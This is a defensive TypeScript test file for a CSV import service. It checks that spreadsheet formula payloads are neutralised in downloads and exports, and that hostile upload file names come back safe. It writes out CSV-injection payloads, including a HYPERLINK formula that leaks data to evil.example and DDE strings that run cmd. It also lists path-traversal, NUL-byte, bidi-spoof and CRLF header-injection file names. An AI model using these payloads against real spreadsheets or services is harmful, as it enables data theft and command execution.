// What Intake hands back must be as safe as what it takes in: formula payloads come out neutralised in every download
// (success, error, duplicated, over HTTP and the CLI) and in `customers export`; hostile file names are stored and
// sent back harmless.
import { it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describeApi, type ApiSuite } from '../api/support/api-harness.js';
import type { ApiClient } from '../api/support/api-client.js';
import { runIntake, waitUntil } from '../support/intake-processes.js';
import { phoneNumber } from './support/hostile-files.js';
import { byScale } from '../support/test-scale.js';
import { holdPostgresWhileRunning } from '../support/postgres-guard.js';

holdPostgresWhileRunning();

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '=1+1',
];
/** The reader turns a quoted CR into LF: the download must neutralise the cell all the same. */
const CR_PAYLOAD = '\r=2+2';
/** The only cells that may start with a formula trigger: a plain signed number such as a phone (+1 312 …). */
const PLAIN_SIGNED_NUMBER = /^(?:[+-]\d+(?:\.\d+)?|\+\d+(?: \d+)+)$/;

type Job = { id: number; status: string; fileName: string; total: number | null; success: number; error: number; duplicated: number };

function payloadCsv(payloads: readonly string[]): string {
  const quote = (cell: string) => (/[",\r\n\t]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
  const rows = [['name', 'phone', 'email', 'note']];
  payloads.forEach((payload, i) => {
    rows.push([payload, phoneNumber(5000 + i), `ok${i}@example.com`, payload]);
    rows.push([payload, '', 'broken@@example', payload]);
    rows.push([payload, phoneNumber(5000 + i), `dup${i}@example.com`, payload]);
  });
  return `${rows.map((row) => row.map(quote).join(',')).join('\r\n')}\r\n`;
}

/** Fails on any cell a spreadsheet would run as a formula; returns the number of neutralised payload cells. */
function assertNeutralised(text: string, where: string): number {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  let neutralised = 0;
  for (const [r, row] of parsed.data.entries()) {
    for (const cell of row) {
      // A spreadsheet skips leading tabs and line breaks before it looks for a formula.
      if (/^[\t\r\n]*[=+\-@]/.test(cell)) assert.match(cell, PLAIN_SIGNED_NUMBER, `${where}, record ${r + 1}: a live formula ${JSON.stringify(cell)}`);
      if (/^'[\t\r\n]*[=+\-@]/.test(cell)) neutralised++;
    }
  }
  return neutralised;
}

async function waitForJob(client: ApiClient, id: number): Promise<Job> {
  return waitUntil(`job ${id} to end`, async () => {
    const found = await client.get<Job>(`/api/jobs/${id}`);
    return ['close', 'failed', 'cancelled'].includes(found.body.status) ? found.body : undefined;
  }, 60_000, 50);
}

/** A multipart upload written byte for byte, so the file name reaches the server exactly as given (NUL included). */
function rawUpload(api: ApiSuite, client: ApiClient, fileName: string, content: string): Promise<{ status: number; body: { id: number; name: string; code?: string } }> {
  const boundary = `----intake${Date.now()}`;
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName.replaceAll('"', '%22')}"\r\nContent-Type: text/csv\r\n\r\n`, 'utf8'),
    Buffer.from(content, 'utf8'),
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const url = new URL('/api/uploads', api.baseUrl);
  return new Promise((resolve, reject) => {
    const outgoing = request(url, {
      method: 'POST',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': body.length, cookie: client.sessionCookie ?? '', 'x-csrf-token': client.csrfToken ?? '' },
    }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, body: JSON.parse(Buffer.concat(chunks).toString('utf8')) }));
    });
    outgoing.on('error', reject);
    outgoing.end(body);
  });
}

/** A name fit to show and to put in a header: no path, no control or bidi characters, not too long. */
function assertSafeName(name: string, given: string): void {
  assert.ok(name.length > 0 && name.length <= 200, `${JSON.stringify(given)} → ${JSON.stringify(name)}: length ${name.length}`);
  assert.doesNotMatch(name, /[/\\]/, `${JSON.stringify(given)} → ${JSON.stringify(name)} keeps a path`);
  // eslint-disable-next-line no-control-regex -- control characters are what is checked for
  assert.doesNotMatch(name, /[\u0000-\u001f\u007f\u202a-\u202e\u2066-\u2069\u200e\u200f]/, `${JSON.stringify(given)} → ${JSON.stringify(name)} keeps a control or bidi character`);
}

/** Content-Disposition with an ASCII fallback that cannot break out of its quotes and an RFC 5987 UTF-8 name. */
function assertSafeDisposition(header: string | null, given: string): void {
  assert.ok(header, `no Content-Disposition for ${JSON.stringify(given)}`);
  assert.match(header, /^attachment; filename="[\x20-\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%!#$&+.^_`|~-]*$/, `unsafe Content-Disposition for ${JSON.stringify(given)}: ${header}`);
  assert.doesNotMatch(decodeURIComponent(header.split("''")[1] ?? ''), /[/\\]|\u202e/, `the UTF-8 name in ${header} keeps a path or an override`);
}

describeApi(
  'what Intake hands back',
  (api) => {
    const environment = () => ({ DATABASE_URL: api.database.test.url, INTAKE_DATA_DIR: api.database.test.dataDir });

    async function importPayloads(payloads: readonly string[], fileName: string, firstPhone: number): Promise<Job> {
      const manager = await api.signedIn('managerNorth');
      const uploaded = await manager.upload<{ id: number }>(fileName, payloadCsv(payloads).replace(/\+1 312 200 5(\d{3})/g, (_, n: string) => phoneNumber(firstPhone + Number(n))));
      assert.equal(uploaded.status, 201, uploaded.text);
      const created = await manager.post<{ job: Job }>('/api/imports', { uploadId: uploaded.body.id, target: 'individual', mapping: { name: 'name', phone: 'phone', email: 'email', note: 'note' } });
      assert.equal(created.status, 201, created.text);
      const job = await waitForJob(manager, created.body.job.id);
      assert.equal(job.status, 'close');
      assert.deepEqual({ success: job.success, error: job.error, duplicated: job.duplicated }, { success: payloads.length, error: payloads.length, duplicated: payloads.length });
      return job;
    }

    async function assertDownloadsNeutralised(job: Job, payloads: readonly string[]): Promise<void> {
      const manager = await api.signedIn('managerNorth');
      for (const kind of ['success', 'error', 'duplicated'] as const) {
        const download = await manager.get<string>(`/api/jobs/${job.id}/files/${kind}`);
        assert.equal(download.status, 200);
        // Each payload is in the name and note columns of its record.
        assert.equal(assertNeutralised(download.text, `HTTP ${kind} file`), 2 * payloads.length, `HTTP ${kind} file: ${download.text}`);
        const cli = await runIntake(['jobs', 'download', String(job.id), '--kind', kind], environment());
        assert.equal(cli.code, 0, cli.stderr);
        // fetch's text() drops the byte-order mark that both carry.
        assert.equal(cli.stdout.replace(/^\uFEFF/, ''), download.text, `the CLI and HTTP ${kind} files differ`);
      }
      const exported = await runIntake(['customers', 'export', '--team', api.fixtures.north.name, '--target', 'individual'], environment());
      assert.equal(exported.code, 0, exported.stderr);
      assert.ok(assertNeutralised(exported.stdout, 'customers export') >= 2 * payloads.length, exported.stdout);
    }

    it('neutralises formula payloads in the success, error and duplicated downloads (HTTP and CLI) and in customers export', async () => {
      const job = await importPayloads(PAYLOADS, 'payloads.csv', 5000);
      await assertDownloadsNeutralised(job, PAYLOADS);
      // The JSON export is data, not a spreadsheet: it keeps the values as imported.
      const json = await runIntake(['customers', 'export', '--team', api.fixtures.north.name, '--target', 'individual', '--json'], environment());
      const names = (JSON.parse(json.stdout) as Array<{ name: string }>).map((row) => row.name);
      assert.ok(names.includes(PAYLOADS[0]!), json.stdout);
    });

    // Found by this test: the reader turns the quoted CR into LF, and a cell starting with LF then "=" was left live.
    it('neutralises a CR-prefixed formula payload in every download', async () => {
      const job = await importPayloads([CR_PAYLOAD], 'cr-payload.csv', 5100);
      await assertDownloadsNeutralised(job, [CR_PAYLOAD]);
    });

    it('stores a hostile upload name harmlessly and sends it back in a safe Content-Disposition', async () => {
      const manager = await api.signedIn('managerNorth');
      const names = [
        '../../../../etc/passwd.csv',
        '..\\..\\..\\Windows\\System32\\evil.csv',
        'nul\u0000byte.csv',
        'invoice\u202egpj.csv',
        `${'a'.repeat(296)}.csv`,
        'semi;colon=%0d%0aSet-Cookie: x=1.csv',
        '客户名单 2024.csv',
      ];
      for (const [i, given] of names.entries()) {
        const uploaded = await rawUpload(api, manager, given, `name,phone\r\nPerson ${i},${phoneNumber(6000 + i)}\r\n`);
        assert.equal(uploaded.status, 201, `${JSON.stringify(given)}: ${JSON.stringify(uploaded.body)}`);
        assertSafeName(uploaded.body.name, given);
        const row = await api.context.repositories.uploads.findById(uploaded.body.id);
        assert.match(row?.storage_key ?? '', /^uploads\/\d{4}\/\d{2}\/[0-9a-f]{32}$/);
        const created = await manager.post<{ job: Job }>('/api/imports', { uploadId: uploaded.body.id, target: 'individual' });
        assert.equal(created.status, 201, created.text);
        const job = await waitForJob(manager, created.body.job.id);
        assert.equal(job.status, 'close');
        assertSafeName(job.fileName, given);
        for (const kind of ['original', 'success'] as const) {
          const download = await manager.get<string>(`/api/jobs/${job.id}/files/${kind}`);
          assert.equal(download.status, 200, `${JSON.stringify(given)} ${kind}: ${download.text}`);
          assertSafeDisposition(download.headers.get('content-disposition'), given);
          assert.equal(download.headers.get('set-cookie'), null);
        }
      }
    });

    it('keeps hostile file names harmless through the command line', async () => {
      const dir = mkdtempSync(join(tmpdir(), 'intake-names-'));
      const names = byScale([`back\\slash\\..\\invoice\u202egpj${'b'.repeat(220)}.csv`], ['back\\slash\\..\\evil.csv', 'invoice\u202egpj.csv', `${'b'.repeat(246)}.csv`, '-rf.csv']);
      for (const [i, name] of names.entries()) {
        const path = join(dir, name);
        writeFileSync(path, `name,phone\r\nPerson ${i},${phoneNumber(7000 + i)}\r\n`);
        const imported = await runIntake(['import', path, '--team', api.fixtures.north.name, '--target', 'individual', '--wait', '--json'], environment());
        assert.equal(imported.code, 0, `${JSON.stringify(name)}: ${imported.stderr}`);
        const { id } = JSON.parse(imported.stdout) as { id: number };
        const shown = await runIntake(['jobs', 'show', String(id), '--json'], environment());
        assertSafeName((JSON.parse(shown.stdout) as { fileName: string }).fileName, name);
        const output = join(dir, `original-${i}`);
        const downloaded = await runIntake(['jobs', 'download', String(id), '--kind', 'original', '--output', output], environment());
        assert.equal(downloaded.code, 0, downloaded.stderr);
        assert.equal(readFileSync(output, 'utf8'), readFileSync(path, 'utf8'));
      }
    });
  },
  { hasWorker: true },
);
